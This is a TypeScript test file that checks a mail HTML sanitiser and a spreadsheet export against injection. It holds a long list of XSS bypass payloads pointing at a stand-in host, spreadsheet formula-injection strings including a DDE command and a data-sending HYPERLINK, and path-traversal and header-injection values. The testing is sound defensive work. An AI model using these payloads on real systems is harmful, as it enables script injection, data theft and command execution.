/** What others wrote, as people come to see it: mails in a browser, cells in a spreadsheet program, names of files. */
import type { Readable } from 'node:stream'
import { buffer } from 'node:stream/consumers'
import { parse } from 'csv-parse/sync'
import { strFromU8, unzipSync } from 'fflate'
import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { type ExportFormat, exportAnswer } from '../../doors/exports/index.ts'
import type { FieldShape, QueryAnswer } from '../../kernel/index.ts'
import { makeSafeHtml } from '../../modules/correspondence/mail/safe-html.ts'
import { openBrowser } from '../browser.ts'
import { chanceOf, FUZZ_SECONDS, FUZZ_SEED, mutate, pick } from './input-chance.ts'
import { bytesOf, textOf } from './input-target.ts'

const HIT = 'window.hit=1;alert(1)'
const OUT = 'http://evil.example/x'

/** Ways that have got script or requests past one sanitiser or another. */
const PAYLOADS: readonly string[] = [
  ...[
    `<script>${HIT}</script>`,
    `<ScRiPt src=${OUT}></sCrIpT>`,
    `<script\0>${HIT}</script>`,
    `<<script>${HIT}//<</script>`,
    `<scr<script>ipt>${HIT}</scr</script>ipt>`,
  ],
  ...[
    `<img src=x onerror=${HIT}>`,
    `<img src=x onerror="${HIT}"//`,
    `<img/src=x/onerror=${HIT}>`,
    `<img src=\`x\` onerror=${HIT}>`,
    `<img srcset="${OUT} 1x">`,
    `<image src=${OUT} onerror=${HIT}>`,
  ],
  ...[
    `<svg onload=${HIT}>`,
    `<svg><script>${HIT}</script></svg>`,
    `<svg><animate onbegin=${HIT} attributeName=x dur=1s>`,
    `<svg><use href="${OUT}#x"/></svg>`,
    `<svg><a xlink:href="javascript:${HIT}"><text>x</text></a></svg>`,
    `<svg><foreignObject><iframe srcdoc="<script>parent.hit=1</script>"></iframe></foreignObject></svg>`,
  ],
  ...[
    `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${HIT}&gt;">`,
    `<math href="javascript:${HIT}">x</math>`,
    `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${HIT}>`,
  ],
  ...[
    `<a href="javascript:${HIT}">x</a>`,
    `<a href="JaVaScRiPt:${HIT}">x</a>`,
    `<a href="java&#10;script:${HIT}">x</a>`,
    `<a href="&#1;javascript:${HIT}">x</a>`,
    `<a href="java&Tab;script&colon;${HIT}">x</a>`,
    `<a href="data:text/html,<script>${HIT}</script>">x</a>`,
    `<a href="vbscript:x">x</a>`,
    `<a href="//evil.example">x</a>`,
    `<a href="https:javascript:${HIT}">x</a>`,
  ],
  ...[
    `<iframe src="javascript:${HIT}">`,
    `<iframe srcdoc="<script>parent.hit=1</script>">`,
    `<object data="javascript:${HIT}">`,
    `<embed src="${OUT}">`,
    `<frameset onload=${HIT}>`,
    `<applet code=x>`,
    `<portal src="${OUT}">`,
  ],
  ...[
    `<body onload=${HIT}>`,
    `<input autofocus onfocus=${HIT}>`,
    `<select autofocus onfocus=${HIT}>`,
    `<textarea autofocus onfocus=${HIT}>`,
    `<details open ontoggle=${HIT}>x</details>`,
    `<marquee onstart=${HIT}>`,
    `<video><source onerror=${HIT}></video>`,
    `<audio src=x onerror=${HIT}>`,
    `<video poster="${OUT}">`,
  ],
  ...[
    `<meta http-equiv=refresh content="0;url=${OUT}">`,
    `<link rel=stylesheet href=${OUT}>`,
    `<link rel=prefetch href=${OUT}>`,
    `<base href=${OUT}/>`,
    `<style>@import '${OUT}';</style>`,
    `<style>*{background:url(${OUT})}</style>`,
  ],
  ...[
    `<p style="background:url(${OUT})">x</p>`,
    `<p style="background:\\75rl(${OUT})">x</p>`,
    `<p style="color:red;list-style:url(${OUT})">x</p>`,
    `<p style="width:expression(${HIT})">x</p>`,
    `<p style="-moz-binding:url(${OUT})">x</p>`,
    `<p style="background:image-set('${OUT}' 1x)">x</p>`,
    `<p style="color:re/**/d;cursor:url('${OUT}'),auto">x</p>`,
    `<p style='font-family:"};x{background:url(${OUT})}'>x</p>`,
  ],
  ...[
    `<form action="${OUT}"><button>x</button></form>`,
    `<button formaction="javascript:${HIT}">x</button>`,
    `<isindex action="javascript:${HIT}" type=submit>`,
    `<a ping="${OUT}" href="https://a.example">x</a>`,
    `<table background="${OUT}"><td background="${OUT}">x`,
    `<bgsound src="${OUT}">`,
  ],
  ...[
    `<noscript><p title="</noscript><img src=x onerror=${HIT}>">`,
    `<title><img src=x onerror=${HIT}></title>`,
    `<textarea><img src=x onerror=${HIT}></textarea>`,
    `<xmp><img src=x onerror=${HIT}></xmp>`,
    `<plaintext><img src=x onerror=${HIT}>`,
    `<template><script>${HIT}</script></template>`,
    `<template shadowrootmode=open><img src=x onerror=${HIT}></template>`,
  ],
  ...[
    `<!--><img src=x onerror=${HIT}>-->`,
    `<!--[if gte IE 4]><script>${HIT}</script><![endif]-->`,
    `<![CDATA[<img src=x onerror=${HIT}>]]>`,
    `<?php <img src=x onerror=${HIT}>?>`,
    `<! foo="><script>${HIT}</script>">`,
    `</ foo="><script>${HIT}</script>">`,
    `<% foo><x foo="%><script>${HIT}</script>">`,
  ],
  ...[
    `<p title="&lt;img src=x onerror=${HIT}&gt;">x</p>`,
    `&lt;img src=x onerror=${HIT}&gt;`,
    `<p title='"><img src=x onerror=${HIT}>'>x</p>`,
    `<img alt="\`><script>${HIT}</script>" src="data:image/svg+xml,<svg onload=${HIT}>">`,
    `<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">`,
    `<font color="red" onmouseover=${HIT} x="">x</font>`,
  ],
]

const cleaned = (html: string): string => makeSafeHtml(html, [])?.html ?? ''

let browser: Browser
beforeAll(async () => {
  browser = await openBrowser()
}, 60_000)
afterAll(async () => {
  await browser?.close()
})

describe('HTML of mails', () => {
  /** Shown without the sandbox and the policy that it has in the app: the sanitiser must do by itself. */
  async function shownIn(parts: readonly string[]): Promise<string[]> {
    const context = await browser.newContext({ javaScriptEnabled: true })
    const page = await context.newPage()
    const found: string[] = []
    page.on('dialog', (dialog) => {
      found.push(`a dialog: ${dialog.message()}`)
      void dialog.dismiss()
    })
    await page.route('**', (route) => {
      found.push(`asked for ${route.request().url()}`)
      return route.abort()
    })
    await page.setContent(`<!doctype html><body>${parts.map((part) => `<div>${part}</div>`).join('\n')}`, {
      waitUntil: 'load',
    })
    const rest = await page.evaluate(() => {
      const wrong: string[] = []
      if ('hit' in window) wrong.push('script was run')
      const kinds =
        'script,iframe,object,embed,form,input,button,textarea,select,link,meta,base,style,svg,math,video,audio,template,frame'
      for (const one of document.body.querySelectorAll(kinds)) wrong.push(one.outerHTML.slice(0, 200))
      for (const one of document.body.querySelectorAll('*')) {
        for (const { name, value } of one.attributes)
          if (
            /^on|^formaction|^srcdoc|^ping$|^xlink|^background/i.test(name) ||
            /url\s*\(|expression|@import/i.test(name === 'style' ? value : '')
          )
            wrong.push(`${name}=${value}`)
        if (
          one instanceof HTMLAnchorElement &&
          one.hasAttribute('href') &&
          !/^(https?|mailto|tel)?:$/.test(one.protocol)
        )
          wrong.push(one.href)
        if (one instanceof HTMLImageElement && one.hasAttribute('src') && !one.src.startsWith('data:image/'))
          wrong.push(one.src)
      }
      return wrong
    })
    await context.close()
    return [...found, ...rest]
  }

  test('ways past a sanitiser run nothing and load nothing, in a real browser', async () => {
    expect(PAYLOADS.length).toBeGreaterThan(80)
    expect((await shownIn(PAYLOADS.map(cleaned))).join('\n')).toBe('')
  }, 60_000)

  test('nor do they when they are changed and put together', async () => {
    const chance = chanceOf(FUZZ_SEED)
    const files = PAYLOADS.map(bytesOf)
    const made = Array.from({ length: FUZZ_SECONDS > 0 ? 5000 : 600 }, () =>
      cleaned(textOf(mutate(bytesOf(pick(chance, PAYLOADS) + pick(chance, PAYLOADS)), chance, files)).slice(0, 20_000)),
    )
    for (let at = 0; at < made.length; at += 100) expect((await shownIn(made.slice(at, at + 100))).join('\n')).toBe('')
  }, 120_000)

  test('the browser would have run them as they came', async () => {
    expect((await shownIn([`<img src=x onerror="${HIT}">`])).length).toBeGreaterThan(0)
  })
})

const FORMULAS: readonly string[] = [
  ...[
    '=1+1',
    '=HYPERLINK("http://evil.example?"&A1,"x")',
    "=cmd|' /C calc'!A0",
    '+1+cmd|x',
    '-2+3+cmd|x',
    '@SUM(1+1)',
    '\t=1+1',
    '\r=1+1',
    '\n=1+1',
    ' =1+1',
  ],
  ...[
    '＝1+1',
    '＋1',
    '－1+1',
    '＠SUM(1)',
    '=',
    '-',
    '+',
    '@',
    '"=1+1',
    "'=1+1",
    ';=1+1',
    ',=1+1',
    '=1+1;=2',
    '%0A=1+1',
    '\ufeff=1+1',
    '\u200b=1+1',
    '\u00a0=1+1',
    '{=1+1}',
    '-1',
    '+49 40 1',
    '1e5',
  ],
]

const column = (name: string, kind: FieldShape['kind'], label: string): FieldShape => ({
  ...{ name, label, kind, optional: true, given: false, filters: [], sorts: true },
})

const answerOf = (): QueryAnswer => ({
  columns: [
    column('text', 'text', '=1+1'),
    column('whose', 'ref', '@x'),
    column('kinds', 'texts', '+a'),
    column('more', 'json', '\t=b'),
  ],
  rows: FORMULAS.map((formula) => ({
    text: formula,
    whose: formula,
    kinds: [formula, 'b'],
    more: { a: formula },
    _titles: { whose: formula },
  })),
  head: { title: '=1+1/\\..\\\u202efdp', company: '../../etc', for: '\r\nX: y', currency: 'EUR' },
})

async function exported(format: ExportFormat, headings: 'names' | 'labels') {
  const file = await exportAnswer(answerOf(), format, { headings, locale: 'de' })
  const bytes = file.body instanceof Uint8Array ? Buffer.from(file.body) : await buffer(file.body as Readable)
  return { ...file, bytes }
}

/** What spreadsheet programs take for a formula, once they have cut off what they think is nothing. */
const RUNS = /^[\s\u200b\ufeff]*[=+\-@＝＋－＠]/
const HARMLESS = /^[-+]?\d+([.,]\d+)*$/

describe('what is exported', () => {
  test.each(['names', 'labels'] as const)(
    'a CSV with %s has no cell that a spreadsheet program runs',
    async (headings) => {
      for (const delimiter of [',', ';', '\t'] as const) {
        const file = await exportAnswer(answerOf(), 'csv', { headings, delimiter, locale: 'de' })
        const rows = parse(await buffer(file.body as Readable), { delimiter, relaxColumnCount: true }) as string[][]
        expect(rows.length).toBe(FORMULAS.length + 1)
        expect(rows.flat().filter((cell) => RUNS.test(cell) && !HARMLESS.test(cell))).toEqual([])
      }
    },
  )

  test('an XLSX holds texts and no formula', async () => {
    const { bytes } = await exported('xlsx', 'labels')
    const sheets = Object.entries(unzipSync(new Uint8Array(bytes))).filter(([name]) => name.endsWith('.xml'))
    for (const [, part] of sheets) expect(strFromU8(part)).not.toMatch(/<f[ >]|<ddeLink|externalLink|t="str"/)
  })

  test.each(['csv', 'xlsx', 'pdf'] as const)('the name of a %s leads nowhere and hides nothing', async (format) => {
    const { filename } = await exported(format, 'labels')
    expect(filename).not.toMatch(/[/\\\p{Cc}\p{Cf}]/u)
    expect(filename.endsWith(`.${format}`)).toBe(true)
  })
})
